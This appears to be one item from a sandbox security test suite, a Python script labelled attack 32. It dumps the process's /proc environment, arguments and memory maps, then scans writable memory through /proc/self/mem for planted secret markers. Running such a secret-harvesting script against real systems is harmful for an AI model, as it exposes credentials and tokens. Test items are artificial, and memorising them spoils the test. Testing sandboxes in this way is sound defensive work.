# attack: 32
# title: the kernel's own environment, arguments and memory are searched
# success: a secret stands in the output
# naive: leak
import re

wanted = re.compile(b"MARK" + rb"ER_[A-Z]+_[0-9a-f]{6,}")
for name in ("environ", "cmdline", "mountinfo", "maps", "auxv", "cgroup"):
    try:
        with open(f"/proc/self/{name}", "rb") as file:
            print(name, file.read()[:20_000])
    except OSError as error:
        print(name, error)
found = set()
try:
    with open("/proc/self/maps") as table, open("/proc/self/mem", "rb", 0) as memory:
        for line in table:
            span, rights, *_ = line.split()
            start, end = (int(part, 16) for part in span.split("-"))
            if rights.startswith("rw") and end - start < 64 << 20:
                try:
                    memory.seek(start)
                    found.update(wanted.findall(memory.read(end - start)))
                except OSError:
                    pass
except OSError as error:
    print(error)
print(found)
